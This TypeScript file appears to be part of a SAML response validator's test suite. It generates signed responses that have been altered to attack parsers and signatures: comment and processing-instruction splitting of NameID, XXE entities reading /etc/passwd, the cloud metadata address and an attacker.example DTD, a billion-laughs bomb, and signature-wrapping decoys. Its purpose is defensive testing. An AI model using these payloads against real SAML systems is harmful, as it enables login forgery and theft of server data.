/** Documents that two readers could read differently: constructs, names and namespaces that signatures leave out or parsers disagree about. */
import { bad, type Vector } from './case.ts'
import { assertion, assertionId, response, responseId, status } from './document.ts'
import type { Material } from './material.ts'
import { dsNs, samlNs, samlpNs } from './names.ts'
import { evilMail, genuineMail, issuer } from './occasion.ts'
import { afterIssuer, insert, sign } from './sign.ts'
import { signAs, signedAs, signedBoth } from './signed.ts'
import { elementText } from './wrapping.ts'

/** Changes what must be there to be changed. */
export function changed(text: string, from: string | RegExp, to: string): string {
  const result = text.replace(from, to.replaceAll('$', '$$$$'))
  if (result === text) throw new Error(`There is no ${String(from)} to change.`)
  return result
}

function constructs(material: Material): Vector[] {
  const forbidden = (name: string, about: string, xml: string) => bad(name, 'forbidden_construct', about, xml)
  const genuine = signedBoth(material)
  const suffixed = signedBoth(material, { mail: `${evilMail}.attacker.example` })
  const prefixed = signedBoth(material, { mail: `not-${evilMail}` })
  const entity = (declaration: string, use: string) =>
    `<!DOCTYPE Response [${declaration}]>${changed(genuine, genuineMail, use)}`
  const laughs = Array.from({ length: 10 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')
  const digest = /<DigestValue>/g
  return [
    forbidden('comment-in-name-id', 'A comment cuts the NameID for readers of its first text (Duo 2018); the signature stays true.', changed(suffixed, `${evilMail}.attacker.example</NameID>`, `${evilMail}<!-- -->.attacker.example</NameID>`)),
    forbidden('comment-in-issuer', 'A comment in the Issuer; the signature stays true.', genuine.replaceAll(`>${issuer}</Issuer>`, `>${issuer}<!-- --></Issuer>`)),
    forbidden('comment-in-digest-value', 'A comment with another digest inside DigestValue (SAMLStorm, CVE-2025-29775).', genuine.replace(digest, '<DigestValue><!--47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=-->')),
    forbidden('comment-in-audience', 'A comment in the Audience.', changed(genuine, '</Audience>', '<!--x--></Audience>')),
    forbidden('comment-before-root', 'A comment before the root.', `<!-- x -->${genuine}`),
    forbidden('comment-after-root', 'A comment after the root.', `${genuine}<!-- x -->`),
    forbidden('processing-instruction-in-name-id', 'An instruction that xml-crypto renders as text: <?p not-?> has the digest of "not-" (OneUptime 2988).', changed(prefixed, `>not-${evilMail}</NameID>`, `><?p not-?>${evilMail}</NameID>`)),
    forbidden('processing-instruction-before-root', 'A style sheet for the message.', `<?xml-stylesheet type="text/xsl" href="https://attacker.example/x.xsl"?>${genuine}`),
    forbidden('cdata-in-name-id', 'CDATA in the NameID; the signature stays true.', changed(genuine, `${genuineMail}</NameID>`, `<![CDATA[${genuineMail}]]></NameID>`)),
    forbidden('cdata-with-markup', 'CDATA with a forged assertion.', changed(genuine, '</Audience>', `<![CDATA[${assertion({ mail: evilMail })}]]></Audience>`)),
    forbidden('doctype', 'An empty document type.', `<!DOCTYPE Response>${genuine}`),
    forbidden('entity-internal', 'The NameID as an entity.', entity(`<!ENTITY who "${evilMail}">`, '&who;')),
    forbidden('entity-external-file', 'A file of the server as an entity (XXE).', entity('<!ENTITY who SYSTEM "file:///etc/passwd">', '&who;')),
    forbidden('entity-external-url', 'An address as an entity (XXE).', entity('<!ENTITY who SYSTEM "http://169.254.169.254/latest/meta-data/">', '&who;')),
    forbidden('entity-parameter', 'A parameter entity.', entity('<!ENTITY % x SYSTEM "https://attacker.example/x.dtd"> %x;', evilMail)),
    forbidden('entity-bomb', 'Entities that grow tenfold each (billion laughs).', entity(`<!ENTITY l0 "lol">${laughs}`, '&l10;')),
    forbidden('attribute-default', 'A document type that gives every element an ID.', `<!DOCTYPE Response [<!ATTLIST Audience ID CDATA "${assertionId}">]>${genuine}`),
    forbidden('xml-1.1', 'XML 1.1, in which other characters end lines.', `<?xml version="1.1"?>${genuine}`),
    forbidden('declaration-late', 'An XML declaration that is not at the start.', `\n<?xml version="1.0"?>${genuine}`)
  ]
}

function wellFormedness(material: Material): Vector[] {
  const genuine = signedBoth(material)
  const malformed = (name: string, about: string, xml: string) => bad(name, 'malformed', about, xml)
  const inNameId = (text: string) => changed(genuine, `${genuineMail}</NameID>`, `${text}</NameID>`)
  const control = (name: string, about: string, text: string) => bad(name, 'control_chars', about, inNameId(text))
  return [
    malformed('text-before-root', 'Text before the root.', `x${genuine}`),
    malformed('text-after-root', 'Text after the root.', `${genuine}x`),
    malformed('two-roots', 'A second root.', `${genuine}${genuine}`),
    malformed('truncated', 'The end is missing.', genuine.slice(0, -10)),
    malformed('crossed-tags', 'Tags that cross.', changed(genuine, '</Audience></AudienceRestriction>', '</AudienceRestriction></Audience>')),
    malformed('end-tag-in-other-case', 'An end tag in other letters.', changed(genuine, '</Audience>', '</audience>')),
    malformed('attribute-twice', 'The same attribute twice.', changed(genuine, ' Version="2.0"', ' Version="1.0" Version="2.0"')),
    malformed('attribute-without-quotes', 'An attribute without quotes.', changed(genuine, ' Version="2.0"', ' Version=2.0')),
    malformed('attribute-with-less-than', 'A < in an attribute.', changed(genuine, ' Version="2.0"', ' Version="2.0" Consent="<"')),
    malformed('bare-ampersand', 'An & alone.', inNameId('alice&bob@corp.example')),
    malformed('html-entity', 'An entity of HTML.', inNameId('alice&nbsp;@corp.example')),
    malformed('reference-to-surrogate', 'A character reference to half a character.', inNameId('alice&#xD800;')),
    malformed('reference-beyond-unicode', 'A character reference to no character.', inNameId('alice&#x110000;')),
    malformed('cdata-end-in-text', 'A ]]> in text.', inNameId('alice]]>')),
    malformed('no-element', 'No element.', 'a sentence'),
    malformed('byte-order-mark', 'A byte order mark is text before the root.', `\uFEFF${genuine}`),
    control('reference-to-null', 'A reference to the character 0.', 'alice&#0;@corp.example'),
    control('reference-to-escape', 'A reference to a control character.', 'alice&#x1b;@corp.example'),
    control('null', 'The character 0.', 'alice\u0000@corp.example'),
    control('next-line', 'U+0085, which ends a line for XML 1.1 alone.', 'alice\u0085@corp.example'),
    control('line-separator', 'U+2028, which ends a line for XML 1.1 alone.', 'alice\u2028@corp.example'),
    control('noncharacter', 'U+FFFF, which is no character.', 'alice\uFFFF@corp.example')
  ]
}

function namespaceTricks(material: Material): Vector[] {
  const { idp } = material
  const genuine = signedBoth(material)
  const shape = 'response_shape'
  const signed = (xml: string) => signAs('both', xml, { key: idp })
  const oneOne = (xml: string) => xml.replaceAll('SAML:2.0', 'SAML:1.0')
  return [
    bad('xmlns-like-attribute', 'malformed', 'An attribute that begins like a declaration: canonicalizers leave it out, so it is not signed.', changed(genuine, '<NameID ', `<NameID xmlnsFormat="${evilMail}" `)),
    bad('xmlns-like-attribute-dotted', 'malformed', 'The same with a dot.', changed(genuine, ' Version="2.0"', ' xmlns.ID="_x" Version="2.0"')),
    bad('undeclared-prefix', 'malformed', 'A prefix that nothing declares.', changed(genuine, '<NameID ', '<NameID u:x="1" ')),
    bad('xml-prefix-redeclared', 'malformed', 'The prefix xml for something else.', changed(genuine, '<NameID ', `<NameID xmlns:xml="${samlNs}" `)),
    bad('xmlns-prefix-declared', 'malformed', 'The prefix xmlns declared.', changed(genuine, '<NameID ', `<NameID xmlns:xmlns="${samlNs}" `)),
    bad('prefix-undeclared', 'malformed', 'A prefix declared away, as XML 1.1 allows.', changed(genuine, '<NameID ', '<NameID xmlns:samlp="" ')),
    bad('relative-namespace', 'malformed', 'A relative namespace, which canonicalizers refuse and then render as nothing (The Fragile Lock).', changed(genuine, '<NameID ', '<NameID xmlns:r="1" ')),
    bad('attribute-twice-by-namespace', 'malformed', 'The same attribute under two prefixes.', changed(genuine, '<NameID ', '<NameID xmlns:a="urn:a:b" xmlns:b="urn:a:b" a:x="1" b:x="2" ')),
    bad('signature-namespace-shadowed', 'signature_place', 'A Signature of another namespace beside the genuine one.', insert(genuine, afterIssuer(genuine, assertionId), `<Signature xmlns="${samlNs}"/>`)),
    bad('response-in-foreign-namespace', shape, 'The response in a namespace of another’s.', genuine.replaceAll(samlpNs, 'urn:example:protocol')),
    bad('response-without-namespace', shape, 'The response in no namespace.', signed(response(assertion()).replaceAll('samlp:', '').replace(` xmlns:samlp="${samlpNs}"`, ''))),
    bad('response-saml-1.1', shape, 'A response of SAML 1.1.', oneOne(genuine)),
    bad('assertion-in-foreign-namespace', shape, 'The assertion in a namespace of another’s.', signed(response(assertion().replaceAll(samlNs, 'urn:example:assertion').replace('<Issuer>', `<Issuer xmlns="${samlNs}">`)))),
    bad('assertion-saml-1.1', shape, 'An assertion of SAML 1.1 in a response of 2.0.', signed(response(assertion({ declarations: ' xmlns="urn:oasis:names:tc:SAML:1.0:assertion"' })))),
    bad('name-id-in-foreign-namespace', shape, 'The NameID in a namespace of another’s, truly signed.', signed(response(assertion({ nameId: `<NameID xmlns="urn:example:x">${evilMail}</NameID>` }))))
  ]
}

function ids(material: Material): Vector[] {
  const { idp } = material
  const genuine = signedBoth(material)
  const signed = (xml: string) => signAs('both', xml, { key: idp })
  const onAudience = (attributes: string) => changed(genuine, '<Audience>', `<Audience ${attributes}>`)
  const foreign = 'foreign_id'
  return [
    bad('id-twice', 'duplicate_id', 'The assertion’s ID on a second element.', onAudience(`ID="${assertionId}"`)),
    bad('id-of-response-on-assertion', 'duplicate_id', 'Response and assertion with one ID.', genuine.replaceAll(assertionId, responseId)),
    bad('id-as-signature-id', 'duplicate_id', 'The assertion’s ID as the Id of a Signature.', changed(genuine, `<Signature xmlns="${dsNs}">`, `<Signature xmlns="${dsNs}" Id="${assertionId}">`)),
    bad('id-as-xml-id', 'duplicate_id', 'The assertion’s ID as xml:id.', onAudience(`xml:id="${assertionId}"`)),
    bad('id-in-lower-case', foreign, 'A further id in lower case.', onAudience('id="_x"')),
    bad('id-as-other-case', foreign, 'Id on an element of SAML.', changed(genuine, ' Version="2.0"', ' Id="_x" Version="2.0"')),
    bad('xml-id', foreign, 'An xml:id.', onAudience('xml:id="_x"')),
    bad('id-prefixed', foreign, 'A prefixed ID on the assertion (attribute pollution).', changed(genuine, `<Assertion ID="${assertionId}"`, `<Assertion xmlns:p="${samlNs}" p:ID="_other" ID="${assertionId}"`)),
    bad('id-prefixed-alone', 'response_shape', 'The assertion has a prefixed ID only.', changed(genuine, `<Assertion ID="${assertionId}"`, `<Assertion xmlns:p="${samlNs}" p:ID="${assertionId}"`)),
    bad('id-with-blank', foreign, 'An ID that is no XML name.', signedWith(material, '_a b')),
    bad('id-like-a-number', foreign, 'An ID that begins with a digit.', signedWith(material, '1abc')),
    bad('id-empty', foreign, 'An empty ID.', changed(genuine, ` ID="${responseId}"`, ' ID=""')),
    bad('no-response-id', 'response_shape', 'A response without ID.', changed(genuine, ` ID="${responseId}"`, '')),
    bad('no-assertion-id', 'response_shape', 'An assertion without ID.', sign(changed(response(assertion()), ` ID="${assertionId}"`, ''), responseId, { key: idp }), { policy: 'response' }),
    bad('id-too-long', foreign, 'An ID of 300 characters.', signed(response(assertion())).replaceAll(responseId, `_${'a'.repeat(299)}`))
  ]
}

const signedWith = ({ idp }: Material, id: string): string =>
  sign(sign(response(assertion({ id })), id, { key: idp }), responseId, { key: idp })

function shapes(material: Material): Vector[] {
  const { idp } = material
  const shape = (name: string, about: string, xml: string) => bad(name, 'response_shape', about, signAs('both', xml, { key: idp }))
  const plain = response(assertion())
  const second = assertion({ id: '_assertion-2', mail: evilMail })
  const decoy = (genuine: string) => changed(elementText(elementText(genuine, 'Assertion'), 'Signature'), '</Signature>', `<Object>${assertion({ id: '_x', mail: evilMail })}</Object></Signature>`)
  const genuine = signedBoth(material)
  const onlyInner = signedAs('assertion', material)
  const inNameId = `<NameID>${evilMail}<Issuer>x</Issuer></NameID>`
  return [
    shape('second-assertion', 'A second assertion; the response’s signature is over both.', response(assertion() + second)),
    bad('second-assertion-signed', 'response_shape', 'Two assertions, each truly signed.', sign(signAs('both', response(assertion() + second), { key: idp }), '_assertion-2', { key: idp })),
    shape('extensions', 'Extensions, even empty ones.', changed(plain, '<samlp:Status>', '<samlp:Extensions/><samlp:Status>')),
    shape('advice', 'Advice in the assertion.', response(assertion({ further: '<Advice/>' }))),
    shape('two-statuses', 'Two Status.', response(`${status()}${assertion()}`)),
    shape('no-status', 'No Status.', response(assertion(), { status: '' })),
    shape('assertion-before-status', 'Assertion and Status in the other order.', response(status(), { status: assertion() })),
    shape('text-in-response', 'Text beside the elements of the response.', changed(plain, '<samlp:Status>', 'text<samlp:Status>')),
    shape('text-in-assertion', 'Text beside the elements of the assertion.', response(assertion({ further: 'text' }))),
    shape('unknown-statement', 'An AuthzDecisionStatement.', response(assertion({ further: '<AuthzDecisionStatement Resource="x" Decision="Permit"/>' }))),
    shape('unknown-response-attribute', 'An attribute that Response has not.', changed(plain, ' Version="2.0"', ' Version="2.0" Recipient="x"')),
    bad('markup-in-name-id', 'nameid', 'An element inside the NameID, truly signed.', signAs('both', response(assertion({ nameId: inNameId })), { key: idp })),
    bad('no-issuer', 'response_shape', 'A response without Issuer.', changed(onlyInner, elementText(onlyInner, 'Issuer'), ''), { policy: 'assertion' }),
    bad('success-without-assertion', 'response_shape', 'Success, and no assertion.', sign(response(''), responseId, { key: idp }), { policy: 'response' }),
    bad('decoy-signature', 'response_shape', 'A second Signature with the same SignatureValue and a forged assertion inside: xml-crypto up to 6.1.2 dropped both (PR 585).', insert(genuine, afterIssuer(genuine, assertionId), decoy(genuine))),
    bad('two-signatures', 'signature_place', 'The same Signature twice.', insert(genuine, afterIssuer(genuine, assertionId), elementText(elementText(genuine, 'Assertion'), 'Signature'))),
    bad('signature-in-subject', 'signature_place', 'A decoy Signature in the Subject.', changed(genuine, '<SubjectConfirmation ', `${elementText(elementText(genuine, 'Assertion'), 'Signature')}<SubjectConfirmation `)),
    bad('signature-in-status', 'signature_place', 'A decoy Signature in the Status.', changed(genuine, '<samlp:Status>', `<samlp:Status><Signature xmlns="${dsNs}"/>`)),
    bad('signature-in-object', 'signature_place', 'A Signature inside a Signature.', changed(genuine, '</KeyInfo></Signature>', `</KeyInfo><Object><Signature/></Object></Signature>`))
  ]
}

export const documentAttacks = (material: Material): readonly Vector[] => [
  ...constructs(material),
  ...wellFormedness(material),
  ...namespaceTricks(material),
  ...ids(material),
  ...shapes(material)
]
